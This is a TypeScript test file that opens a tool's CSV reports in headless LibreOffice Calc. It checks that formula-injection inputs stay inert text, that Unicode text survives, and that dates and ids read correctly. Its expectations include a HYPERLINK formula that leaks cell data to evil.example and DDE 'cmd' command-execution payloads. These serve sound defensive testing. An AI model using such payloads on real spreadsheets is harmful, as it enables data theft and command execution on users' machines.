// Every CSV report opened in a real spreadsheet (LibreOffice Calc, headless): the cells it reads back
// are the cells we meant — text intact, numbers as numbers, nothing evaluated as a formula, even with
// formula evaluation switched on and an article built to attack spreadsheets.
import { spawnSync } from 'node:child_process';
import { copyFileSync, existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { basename, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { HOSTILE, loadScaled, readCsv, readCsvRecords, runCli, spawnLimited, tempDir } from '../helpers.js';
import { readsAsOtherNumber } from '../../src/report/csv.js';
import { readFlatOds, type SheetCell } from './fods.js';

const hasLibreOffice = spawnSync('soffice', ['--version'], { encoding: 'utf8' }).status === 0;
if (!hasLibreOffice) {
  console.warn('\n*** SKIPPING the LibreOffice spreadsheet test: `soffice` is not installed (.ci/run installs libreoffice-calc). ***\n');
}

const DIALECTS = {
  // CSV import options: separator, quote ("), UTF-8 (76), from row 1, no column types, locale,
  // quoted fields not forced to text, detect special numbers, ..., evaluate formulas = true (the
  // dangerous setting: what a double-click in a spreadsheet does).
  excel: { delimiter: ',', filter: 'CSV:44,34,76,1,,1033,false,true,false,false,false,-1,true', number: /^-?\d+(?:\.\d+)?(?:e-?\d+)?$/ },
  'excel-eu': { delimiter: ';', filter: 'CSV:59,34,76,1,,1031,false,true,false,false,false,-1,true', number: /^-?\d+(?:,\d+)?(?:e-?\d+)?$/ },
} as const;

const ISO_DATE = /^\d{4}-\d{2}-\d{2}$/;

/**
 * What one LibreOffice call needs on an idle machine, with room to spare: a conversion costs about 5 s of CPU, most of it
 * LibreOffice's start, however few its files, and took 125 s of wall time at a load of 23 on 2 cores. The limit of the call
 * (loadScaled) and of a test that makes one.
 */
const LIBREOFFICE_IDLE_MS = 60_000;

/** The CSVs asked to be opened with each import filter (openInLibreOffice), converted together at the first test that reads one. */
const asked = new Map<string, Array<{ files: string[]; sheets?: Record<string, SheetCell[][]> }>>();

/**
 * The CSVs of a directory (every one, or those named), as LibreOffice opens them with `filter`: sheets by report name, when
 * the function returned is first called. Every directory's CSVs asked with one filter are converted to Flat ODS in one
 * LibreOffice call, at the first test that reads one (ten calls had been six filters' worth).
 */
function openInLibreOffice(dir: string, filter: string, names?: readonly string[]): () => Record<string, SheetCell[][]> {
  // A run that failed wrote no CSV: its tests fail by its exit code, the other runs' CSVs are converted all the same.
  const written = existsSync(dir) ? readdirSync(dir).filter((name) => name.endsWith('.csv')) : [];
  const files = (names?.map((name) => `${name}.csv`) ?? written).filter((name) => written.includes(name)).map((name) => join(dir, name));
  const request: { files: string[]; sheets?: Record<string, SheetCell[][]> } = { files };
  if (!asked.has(filter)) asked.set(filter, []);
  asked.get(filter)!.push(request);
  return () => {
    if (!request.sheets) convertAll(filter);
    return request.sheets!;
  };
}

/** Converts every CSV asked with `filter` in one LibreOffice call, each under a name of its own (`<request>-<report>.csv`). */
function convertAll(filter: string): void {
  const requests = asked.get(filter)!;
  const staged = tempDir('lo-in-');
  const converted = tempDir('lo-out-');
  const profile = tempDir('lo-profile-');
  const inputs = requests.flatMap((request, k) =>
    request.files.map((file) => {
      const input = join(staged, `${k}-${basename(file)}`);
      copyFileSync(file, input);
      return input;
    }),
  );
  const run = spawnLimited(
    'soffice',
    [`-env:UserInstallation=file://${profile}`, '--headless', `--infilter=${filter}`, '--convert-to', 'fods', '--outdir', converted, ...inputs],
    // The cells' text is formatted in LibreOffice's locale, which follows LC_ALL and LANG, not the import filter's:
    // under LC_ALL=tr_TR.UTF-8 the id 1.5 read back as "1,5". The tests read cells as a spreadsheet in English shows them.
    { idleMs: LIBREOFFICE_IDLE_MS, env: { ...process.env, LC_ALL: 'C.UTF-8' } },
  );
  expect(run.status, run.stderr).toBe(0);
  requests.forEach((request, k) => {
    request.sheets = Object.fromEntries(request.files.map((file) => [basename(file, '.csv'), readFlatOds(readFileSync(join(converted, `${k}-${basename(file, '.csv')}.fods`), 'utf8'))]));
  });
}

// The import filters docs/reference.md tells a user to convert with. `CSV:59,34,76,1` for excel-eu
// left the locale to the machine's: under an English one LibreOffice read `0,585` as 585 and
// `-0,1819` as text, a sentiment column of wrong numbers and strings.
const reference = readFileSync(join(import.meta.dirname, '..', '..', 'docs', 'reference.md'), 'utf8');
const documentedFilter = (separator: number): string => {
  const filter = new RegExp(`\`(?:--infilter="?)?(CSV:${separator},34,76,1[^\`"]*)"?\``).exec(reference)?.[1];
  expect(filter, `CSV:${separator} in docs/reference.md`).toBeDefined();
  return filter!;
};

describe.skipIf(!hasLibreOffice)('reports opened in LibreOffice Calc', { timeout: loadScaled(LIBREOFFICE_IDLE_MS) }, () => {
  for (const [dialect, { delimiter, filter, number }] of Object.entries(DIALECTS)) {
    describe(dialect, async () => {
      const dir = tempDir();
      const config = join(dir, 'config.json');
      writeFileSync(config, JSON.stringify({ csv: { dialect } }));
      const output = join(dir, 'out');
      const run = await runCli(['--config', config, '--input', join(HOSTILE, 'formulas.jsonl'), '--output', output, '--quiet']);
      // Opened at the first test that reads them (vitest collects a skipped suite's body too: without LibreOffice, nothing is opened).
      const sheets = openInLibreOffice(output, filter);
      const documented = openInLibreOffice(output, documentedFilter(delimiter.charCodeAt(0)), ['sentences']);
      const csv = (name: string) => readCsv(join(output, `${name}.csv`), delimiter);

      it('the run succeeds', () => expect(run.code).toBe(0));

      it('every cell reads back as meant: no formula, numbers as numbers, text unchanged', () => {
        expect(Object.keys(sheets()).sort()).toEqual(['articles', 'corpus_terms', 'errors', 'keyphrases', 'removed_lines', 'sentences', 'terms']);
        let numbers = 0;
        for (const [name, sheet] of Object.entries(sheets())) {
          const rows = csv(name);
          expect(sheet.length, name).toBe(rows.length);
          rows.forEach((row, r) => {
            row.forEach((text, c) => {
              const cell = sheet[r]![c] ?? { type: 'empty', text: '', value: null, formula: null };
              const where = `${name}.csv row ${r + 1} column ${rows[0]![c]}: ${JSON.stringify(text)}`;
              expect(cell.formula, where).toBeNull();
              if (text === '') expect(cell.type, where).toBe('empty');
              else if (number.test(text)) {
                numbers++;
                expect([cell.type, cell.value], where).toEqual(['float', Number(text.replace(',', '.'))]);
              } else if (ISO_DATE.test(text)) expect(cell.type, where).toBe('date');
              else expect([cell.type, cell.text], where).toEqual(['string', text]);
            });
          });
        }
        expect(numbers).toBeGreaterThan(20);
      });

      it('the hostile title, byline, source and url are shown as inert text', () => {
        const [header, ...rows] = sheets().articles!;
        const column = (name: string) => header!.findIndex((cell) => cell.text === name);
        const hostile = rows.find((row) => row[column('article_id')]!.text === 'hostile')!;
        expect(hostile[column('title')]).toMatchObject({ type: 'string', formula: null, text: `'=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")` });
        expect(hostile[column('byline')]).toMatchObject({ type: 'string', text: `'+cmd|' /C calc'!A0` });
        expect(hostile[column('source')]).toMatchObject({ type: 'string', text: `'@SUM(1+1)*cmd|' /C calc'!A0` });
        expect(hostile[column('url')]).toMatchObject({ type: 'string', text: `'-2+3+cmd|' /C calc'!A0` });
        expect(hostile[column('words')]!.type).toBe('float');
        expect(hostile[column('sentiment')]!.type).toBe('float');
      });

      it('accents, Cyrillic, emoji and a quotation with the delimiters in it arrive intact', () => {
        const [header, ...rows] = sheets().articles!;
        const column = (name: string) => header!.findIndex((cell) => cell.text === name);
        const plain = rows.find((row) => row[column('article_id')]!.text === 'plain')!;
        expect(plain[column('title')]!.text).toBe('Résumé of the Привет budget 👍');
        expect(plain[column('byline')]!.text).toBe('Zoë Ångström');
        const sentences = sheets().sentences!.map((row) => row.map((cell) => cell.text).join(' ')).join('\n');
        expect(sentences).toContain('Москва and Київ');
        expect(sentences).toContain('naïve café owners 🎉');
        // Quoted, its quotes doubled, where the rows are joined (csv.ts directLine). Each quote stands before a delimiter:
        // LibreOffice reads a lone quote before a space as text, and one not doubled before a delimiter ends the cell.
        const quoted = sheets().sentences!.flat().find((cell) => cell.text.startsWith('The mayor called'));
        expect(quoted).toMatchObject({ type: 'string', formula: null, text: 'The mayor called the plan "fair", "final"; the teachers agreed.' });
      });

      it('sentences that start with a formula character are text', () => {
        const texts = sheets().sentences!.slice(1).map((row) => row[2]!);
        const starts = texts.filter((cell) => /^'[=+\-@]/.test(cell.text));
        expect(starts.map((cell) => cell.text.slice(0, 6)).sort()).toEqual(["'+Plus", "'-Minu", "'=HYPE", "'@Ment"]);
        for (const cell of starts) expect(cell).toMatchObject({ type: 'string', formula: null });
      });

      it('the import filter docs/reference.md gives reads every number as the number written', () => {
        expect(run.code).toBe(0);
        const sheet = documented().sentences!;
        const rows = csv('sentences');
        const column = rows[0]!.indexOf('sentiment');
        const scores = rows.slice(1).map((row, r) => ({ text: row[column]!, cell: sheet[r + 1]![column] })).filter(({ text }) => number.test(text));
        expect(scores.length).toBeGreaterThan(5);
        for (const { text, cell } of scores) expect([cell?.type, cell?.value], text).toEqual(['float', Number(text.replace(',', '.'))]);
      });
    });
  }
});

// A double-click on a CSV opens LibreOffice's import dialog with "Detect special numbers" off (its
// default: Calc/Dialogs/CSVImport/DetectSpecialNumbers in the registry). So set, it reads
// `2023-03-04` as a date and `2006-10-22T12:16` as text, a column that sorts the dated articles of
// one form before those of the other; Excel reads no date with a `T` in it at all. With the option
// on (a script's `--infilter` without it) both are dates.
const IMPORTS = {
  excel: { 'the import dialog as it opens': 'CSV:44,34,76,1,,1033,false,false', 'detect special numbers': DIALECTS.excel.filter },
  'excel-eu': { 'the import dialog as it opens': 'CSV:59,34,76,1,,1031,false,false', 'detect special numbers': DIALECTS['excel-eu'].filter },
} as const;

describe.skipIf(!hasLibreOffice)('articles.csv: every date is a date cell, and date then time sort the articles in time order', { timeout: loadScaled(LIBREOFFICE_IDLE_MS) }, () => {
  // Out of order, dated as feeds give them: a day alone, a UTC instant, a Unix time, a local time.
  const records = [
    { id: 'day-after', date: '2023-03-04' },
    { id: 'late-evening', date: '2023-03-03T22:40:00Z' },
    { id: 'day-only', date: 'March 3, 2023' },
    { id: 'unix-time', date: 1677838500 },
    { id: 'years-before', date: '2006-10-22T12:16' },
    { id: 'early-morning', date: '2023-03-03T09:05:00Z' },
  ].map((record, i) => ({ ...record, title: `Harbour works, part ${i + 1}`, text: `The harbour authority said on Friday that dredging of berth ${i + 1} would resume next week. Residents welcomed the news.` }));
  // A spreadsheet sorts an empty cell last: the article dated by its day alone comes after that day's timed ones.
  const inTimeOrder = ['years-before', 'early-morning', 'unix-time', 'late-evening', 'day-only', 'day-after'];

  for (const [dialect, imports] of Object.entries(IMPORTS)) {
    describe(dialect, async () => {
      const dir = tempDir();
      writeFileSync(join(dir, 'config.json'), JSON.stringify({ csv: { dialect } }));
      writeFileSync(join(dir, 'dated.jsonl'), records.map((record) => JSON.stringify(record)).join('\n'));
      const output = join(dir, 'out');
      const run = await runCli(['--config', join(dir, 'config.json'), '--input', join(dir, 'dated.jsonl'), '--output', output, '--quiet']);

      for (const [name, filter] of Object.entries(imports)) {
        const sheets = openInLibreOffice(output, filter, ['articles']);
        it(name, () => {
          expect(run.code, run.stderr).toBe(0);
          const [header, ...rows] = sheets().articles!;
          const column = (label: string) => header!.findIndex((cell) => cell.text === label);
          const [id, date, time] = [column('article_id'), column('date'), column('time')];
          for (const row of rows) expect(row[date], row[id]!.text).toMatchObject({ type: 'date', dateValue: expect.stringMatching(/^\d{4}-\d{2}-\d{2}$/) });
          expect(time).toBe(date + 1);
          for (const row of rows) {
            const cell = row[time] ?? { type: 'empty', text: '' };
            // A time cell, or under the dialog's default its text, which sorts as the time does: `09:05` before `10:15`.
            if (cell.type !== 'empty') expect(cell.type === 'time' || (cell.type === 'string' && /^\d{2}:\d{2}$/.test(cell.text)), `${row[id]!.text}: ${cell.type} ${cell.text}`).toBe(true);
          }
          const key = (row: SheetCell[]) => `${row[date]!.dateValue} ${row[time]?.dateValue ?? (row[time]?.text || '\uffff')}`;
          expect(rows.sort((a, b) => (key(a) < key(b) ? -1 : key(a) > key(b) ? 1 : 0)).map((row) => row[id]!.text)).toEqual(inTimeOrder);
        });
      }
    });
  }
});

describe.skipIf(!hasLibreOffice)('article ids that a spreadsheet shows as other numbers are named in errors.csv', { timeout: loadScaled(LIBREOFFICE_IDLE_MS) }, async () => {
  // Ids as file names and feeds give them: numbered with leading zeros, versions, long numeric ids.
  const ids = ['0042', '42', '1.10', '1.5', 'a-0042', '1234567890123456789', '1e5', '000/0001'];
  const dir = tempDir();
  writeFileSync(join(dir, 'ids.jsonl'), ids.map((id, i) => JSON.stringify({ id, text: `The council approved plan number ${i + 1} for the harbour on Monday. Work starts in ${i + 2} weeks.` })).join('\n'));
  const output = join(dir, 'out');
  const run = await runCli(['--input', join(dir, 'ids.jsonl'), '--output', output, '--quiet']);

  for (const [name, filter] of Object.entries(IMPORTS.excel)) {
    const sheets = openInLibreOffice(output, filter, ['articles']);
    it(`the ids named are those LibreOffice changes (${name})`, () => {
      expect(run.code, run.stderr).toBe(0);
      const [header, ...rows] = sheets().articles!;
      const id = header!.findIndex((cell) => cell.text === 'article_id');
      const changed = rows.map((row, i) => ({ id: ids[i]!, cell: row[id]! })).filter(({ id, cell }) => cell.text !== id);
      expect(changed.map(({ id, cell }) => [id, cell.type, cell.text])).toEqual([
        ['0042', 'float', '42'],
        ['1.10', 'float', '1.1'],
        ['1234567890123456789', 'float', expect.stringMatching(/^1\.2345678901234\d*E\+018$/)],
        ['1e5', 'float', expect.stringMatching(/^1(?:00000|\.00E\+05)$/)],
      ]);
      expect(ids.filter(readsAsOtherNumber)).toEqual(changed.map(({ id }) => id));
    });
  }

  it('errors.csv warns once, naming them', () => {
    const warnings = readCsvRecords(join(output, 'errors.csv')).filter((row) => row.stage === 'report');
    expect(warnings).toEqual([{ source_file: 'articles.csv', article_id: '', stage: 'report', severity: 'warning', problem: expect.stringMatching(/^4 article ids read as another number in a spreadsheet \(0042, 1\.10, 1234567890123456789, 1e5\): 0042 shows as 42/) }]);
  });
});
